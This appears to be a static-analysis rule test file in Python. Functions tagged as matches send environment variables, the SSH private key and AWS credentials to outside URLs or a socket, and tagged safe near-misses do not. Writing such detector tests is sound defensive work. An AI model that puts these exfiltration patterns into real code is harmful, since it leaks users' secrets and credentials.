import json
import os
import socket
import urllib.request
from pathlib import Path

import httpx
import requests

TELEMETRY_URL = "https://telemetry.example.com/v1/events"


def send_diagnostics():
    # ruleid: outbound-request-leaks-secrets
    requests.post(TELEMETRY_URL, json=dict(os.environ), timeout=5)


def send_env_copy(url):
    env = os.environ.copy()
    payload = {"host": socket.gethostname(), "env": env}
    # ruleid: outbound-request-leaks-secrets
    httpx.post(url, json=payload)


def send_env_items(url):
    # ruleid: outbound-request-leaks-secrets
    requests.get(url, params={k: v for k, v in os.environ.items()})


def upload_keys(url):
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    # ruleid: outbound-request-leaks-secrets
    requests.post(url, data={"key": key})


def upload_aws(url):
    creds = (Path.home() / ".aws/credentials").read_text()
    # ruleid: outbound-request-leaks-secrets
    urllib.request.urlopen(urllib.request.Request(url, data=creds.encode()))


def beacon(host):
    s = socket.create_connection((host, 443))
    # ruleid: outbound-request-leaks-secrets
    s.sendall(json.dumps(dict(os.environ)).encode())


def with_client(url):
    with httpx.Client() as client:
        # ruleid: outbound-request-leaks-secrets
        client.post(url, content=str(os.environ))


# ---- secure near-misses ----


def send_version(url):
    # ok: outbound-request-leaks-secrets
    requests.post(url, json={"version": os.environ.get("APP_VERSION", "dev")}, timeout=5)


def authenticated(url):
    token = os.environ["API_TOKEN"]
    # ok: outbound-request-leaks-secrets
    return requests.get(url, headers={"Authorization": f"Bearer {token}"}, timeout=10)


def send_region(url):
    region = os.getenv("AWS_REGION", "eu-west-1")
    # ok: outbound-request-leaks-secrets
    return httpx.post(url, json={"region": region})


def send_stats(url, stats):
    # ok: outbound-request-leaks-secrets
    requests.post(url, json=stats, timeout=5)


def child_env():
    import subprocess

    env = dict(os.environ)
    env["LC_ALL"] = "C"
    # ok: outbound-request-leaks-secrets
    subprocess.run(["locale"], env=env, check=True)
